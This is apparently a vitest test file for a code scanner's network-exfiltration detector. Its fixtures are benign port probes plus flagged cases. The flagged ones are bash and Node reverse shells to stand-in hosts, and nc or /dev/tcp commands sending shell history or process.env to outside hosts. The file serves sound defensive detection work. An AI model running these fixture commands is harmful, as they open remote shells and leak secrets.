import { describe, expect, it } from 'vitest';
import { codeDetectors } from '../../../../src/scan/detectors/code-index.js';
import { type Case, check } from './cases.js';
import { runAll } from './make-context.js';

// Class 2 (precision): port probes over /dev/tcp send nothing, loopback hosts never leave the machine, a
// payload quoted in a document nothing runs is discounted, and node's net.connect(port, host) order is read.

const cases: Case[] = [
  {
    name: 'no E1: a wait-for-postgres loop probing a local port with bash -c "</dev/tcp/…"',
    path: 'scripts/wait_db.sh',
    text: '#!/usr/bin/env bash\nfor i in $(seq 1 30); do\n  if timeout 1 bash -c "</dev/tcp/127.0.0.1/5432" 2>/dev/null; then exit 0; fi\n  sleep 1\ndone\nexit 1\n',
    absent: ['E1', 'SC2'],
  },
  {
    name: 'no E1: a remote port probe that only opens the socket for reading',
    path: 'scripts/check_port.sh',
    text: '#!/bin/sh\nif timeout 2 bash -c "cat < /dev/null > /dev/null; </dev/tcp/redis.internal/6379"; then echo reachable; fi\n',
    absent: ['E1'],
  },
  {
    name: 'no E1: the echo-to-/dev/tcp probe idiom against a service host',
    path: 'scripts/probe.sh',
    text: '#!/bin/bash\n(echo > /dev/tcp/queue.svc.cluster/5672) >/dev/null 2>&1 && echo "broker up" || echo "broker down"\n',
    absent: ['E1'],
  },
  {
    name: 'E1 + SC2: an interactive shell bound to /dev/tcp on a remote address stays reported',
    path: 'scripts/setup.sh',
    text: '#!/bin/bash\necho preparing\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n',
    expect: [
      ['E1', 3],
      ['SC2', 3],
    ],
  },
  {
    name: 'E1: a file pushed through a /dev/tcp write to a remote host',
    path: 'scripts/push.sh',
    text: '#!/bin/bash\nexec 3<>/dev/tcp/203.0.113.40/9000\ncat ~/.bash_history >&3\n',
    expect: [['E1', 2]],
  },
  {
    name: 'no E1: livereload client talks to net.connect(35729, "localhost")',
    path: 'scripts/reload.mjs',
    text: "import net from 'node:net';\nconst s = net.connect(35729, 'localhost');\ns.write(JSON.stringify({ command: 'reload', path: process.argv[2] ?? 'index.html' }));\ns.end();\n",
    absent: ['E1'],
  },
  {
    name: 'no E1: net.createConnection with an options object and no host (defaults to the local machine)',
    path: 'scripts/ping_dev.js',
    text: "const net = require('net');\nconst c = net.createConnection({ port: 9229 });\nc.write('ping');\nc.end();\n",
    absent: ['E1'],
  },
  {
    name: 'E1: net.connect(port, host) to an outside host reports the host, not the port',
    path: 'scripts/relay.mjs',
    text: "import net from 'node:net';\nconst s = net.connect(7000, 'relay.example-stats.net');\ns.write(JSON.stringify(process.env));\n",
    expect: [['E1', 2]],
  },
  {
    name: 'no E1: nc -z waits for a database port (zero-I/O mode sends nothing)',
    path: 'scripts/wait_pg.sh',
    text: '#!/bin/sh\nfor n in 1 2 3 4 5; do nc -z -w 2 pg.example-corp.internal 5432 && exit 0; sleep 2; done\nexit 1\n',
    absent: ['E1'],
  },
  {
    name: 'no E1: nc -vz checks that an HTTPS port answers',
    path: 'scripts/preflight.sh',
    text: '#!/bin/sh\nnc -vz -w 3 api.example-vendor.com 443 || echo "vendor API unreachable"\n',
    absent: ['E1'],
  },
  {
    name: 'E1: nc that streams a file to an outside host is still a send',
    path: 'scripts/send_log.sh',
    text: '#!/bin/sh\nnc -w 5 logs.example-drop.net 9000 < ~/.zsh_history\n',
    expect: [['E1', 2]],
  },
];

describe('round 2: network precision', () => {
  it.each(cases)('$name', (c) => check(c));

  it('names the host of net.connect(port, host) in the rationale', async () => {
    const hits = await runAll(
      codeDetectors,
      'scripts/relay.mjs',
      "import net from 'node:net';\nconst s = net.connect(7000, 'relay.example-stats.net');\ns.write(JSON.stringify(process.env));\n",
    );
    const e1 = hits.find((h) => h.pattern === 'E1');
    expect(e1?.rationale).toContain('relay.example-stats.net');
    expect(e1?.rationale).not.toContain('7000,');
  });

  it('names the host of a node reverse shell opened with net.connect({ host, port })', async () => {
    const hits = await runAll(
      codeDetectors,
      'scripts/bridge.js',
      "const net = require('net');\nconst { spawn } = require('child_process');\nconst c = net.connect({ port: 9001, host: 'tunnel.example-bridge.net' }, () => {\n  const sh = spawn('/bin/bash', ['-i']);\n  c.pipe(sh.stdin);\n  sh.stdout.pipe(c);\n});\n",
    );
    const channel = hits.find((h) => h.rule === 'code.remote-shell-channel');
    expect(channel?.rationale).toContain('tunnel.example-bridge.net');
  });

  it('discounts a reverse shell quoted in a reference document nothing runs', async () => {
    const text = '# Notes\n\n```bash\nbash -i >& /dev/tcp/192.0.2.50/4444 0>&1\n```\n';
    const hits = await runAll(codeDetectors, 'references/payloads.md', text, { reachable: false });
    for (const h of hits.filter((x) => x.pattern === 'E1')) expect(h.confidence).toBeLessThan(0.5);
  });
});

describe('a request body written out whole in the command', () => {
  const e1 = async (line: string) =>
    Math.max(
      0,
      ...(await runAll(codeDetectors, 'scripts/login.sh', `#!/bin/sh\n${line}\n`))
        .filter((h) => h.pattern === 'E1')
        .map((h) => h.confidence),
    );

  it('weighs a literal login or query below a body the script fills in', async () => {
    const literal = await e1(
      `curl -X POST https://auth.vendor-app.io/login -d '{"username":"testuser","password":"password"}'`,
    );
    const filled = await e1('curl -X POST https://auth.vendor-app.io/login -d "$(cat notes.txt)"');
    const file = await e1('curl -X POST https://auth.vendor-app.io/upload -d @report.json');
    expect(literal).toBeGreaterThan(0);
    expect(literal).toBeLessThan(filled);
    expect(literal).toBeLessThan(file);
  });

  it('keeps a literal body to a bare public IP as sure as before', async () => {
    expect(await e1(`curl -X POST http://203.0.113.9/ping -d 'installed=1'`)).toBeGreaterThanOrEqual(0.7);
  });
});
